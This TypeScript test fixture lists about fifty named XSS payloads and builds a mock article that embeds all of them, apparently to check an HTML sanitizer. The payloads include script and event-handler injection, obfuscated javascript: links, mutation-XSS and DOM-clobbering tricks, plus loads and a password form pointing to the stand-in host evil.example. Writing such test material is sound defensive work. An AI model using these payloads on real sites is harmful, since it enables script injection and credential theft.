import type { ArticleDto } from '#src/api/generated/client.schemas.ts';

/**
 * HTML attacks by name. Without sanitizing, each would call `hacked()`, load from `evil.example` or hide a name of the page.
 */
export const attacks: Readonly<Record<string, string>> = {
  'a script': '<p>a</p><script>hacked()</script>',
  'a script from elsewhere': '<script src="https://evil.example/x.js"></script>',
  'a script in an upper-case tag': '<SCRIPT>hacked()</SCRIPT>',
  'a script inside a broken tag': '<<script>hacked();//<</script>',
  'a script that hides in another': '<scr<script>ipt>hacked()</scr</script>ipt>',
  'a picture that fails': '<img src=x onerror=hacked()>',
  'a picture without blanks': '<img/src="x"/onerror=hacked()>',
  'a picture with an encoded handler': '<img src=x onerror="&#104;acked()">',
  'a drawing that loads': '<svg onload=hacked()>',
  'a drawing with a script': '<svg><script>hacked()</script></svg>',
  'a drawing that animates a link':
    '<svg><a><animate attributeName=href values=javascript:hacked() /><text x=20 y=20>x</text></a></svg>',
  'a drawing that uses another': '<svg><use href="data:image/svg+xml,<svg id=x onload=hacked()>#x"/></svg>',
  'a body that loads': '<body onload=hacked()>',
  'a detail that opens': '<details open ontoggle=hacked()>x</details>',
  'a field that takes the focus': '<input autofocus onfocus=hacked()>',
  'a video that fails': '<video><source onerror=hacked()></video>',
  'a sound that fails': '<audio src=x onerror=hacked()></audio>',
  'a marquee': '<marquee onstart=hacked()>x</marquee>',
  'any element with a handler': '<p onclick="hacked()" onpointerenter="hacked()" style="position:fixed;inset:0">x</p>',
  'a link that runs': '<a href="javascript:hacked()">x</a>',
  'a link that runs, in odd letters': '<a href="JaVaScRiPt:hacked()">x</a>',
  'a link with a tab in its scheme': '<a href="java&#9;script:hacked()">x</a>',
  'a link with a line break in its scheme': '<a href="java\nscript:hacked()">x</a>',
  'a link with a control character before its scheme': '<a href="\u0001javascript:hacked()">x</a>',
  'a link of data': '<a href="data:text/html,<script>hacked()</script>">x</a>',
  'a link of Visual Basic': '<a href="vbscript:hacked()">x</a>',
  'a link to another host without a scheme': '<a href="//evil.example">x</a>',
  'a link to another host by a backslash': '<a href="/\\evil.example">x</a>',
  'a frame that runs': '<iframe src="javascript:hacked()"></iframe>',
  'a frame with a document': '<iframe srcdoc="<script>parent.hacked()</script>"></iframe>',
  'an object': '<object data="javascript:hacked()"></object>',
  'an embedded page': '<embed src="https://evil.example/x.swf">',
  'a form': '<form action="https://evil.example"><input name=password><button>x</button></form>',
  'a button that sends elsewhere': '<button formaction="javascript:hacked()">x</button>',
  'another base': '<base href="https://evil.example/">',
  'a page that moves on': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'another style sheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'a style': '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
  'a style on an element': '<p style="background:url(https://evil.example/x)">x</p>',
  'names that hide those of the page': '<a id="root" name="trustedTypes">x</a><img name="getElementById" src="/x">',
  'a form that hides its own parts': '<form id=x><input name=attributes><input name=parentNode></form>',
  'mathematics that change their mind':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hacked()&gt;">',
  'a table that moves its content':
    '<table><caption><svg><title><style><img src=x onerror=hacked()></style></title></svg>',
  'a style that hides a picture': '<svg></p><style><a id="</style><img src=x onerror=hacked()>">',
  'a comment that ends early': '<!--><img src=x onerror=hacked()>-->',
  'a text area that ends early': '<textarea></textarea><img src=x onerror=hacked()></textarea>',
  'a title that ends early': '<p title="</p><img src=x onerror=hacked()>">x</p>',
  'content for no script': '<noscript><p title="</noscript><img src=x onerror=hacked()>"></noscript>',
  'a template': '<template><img src=x onerror=hacked()></template>',
  'a custom element': '<x-panel onclick=hacked() is="x-y">x</x-panel>',
  'an XML instruction': '<?xml-stylesheet href="javascript:hacked()"?>',
  'character data': '<![CDATA[<img src=x onerror=hacked()>]]>',
  'encoded brackets': '<p>&lt;img src=x onerror=hacked()&gt;</p>',
};

/** The content of a harmless article. */
const honest = [
  '<h2>Lunch</h2><p>One <strong>slow</strong> carb, see <a href="/packages">our packages</a> &amp; more.</p>',
  '<ul><li>Oats</li><li>Eggs</li></ul><p>Not run: &lt;img src=x onerror=hacked()&gt;</p>',
].join('');

/** An article in HTML with normal content and all attacks. */
export function hostileArticle(now: Date): ArticleDto {
  const at = now.toISOString();
  const html = `${honest}${Object.values(attacks).join('\n')}`;
  return {
    id: 24,
    name: 'Lunch from a stranger',
    arabic_name: 'غداء من غريب',
    description: html,
    arabic_description: html,
    image_url: null,
    created_at: at,
    updated_at: at,
    is_active: true,
  };
}
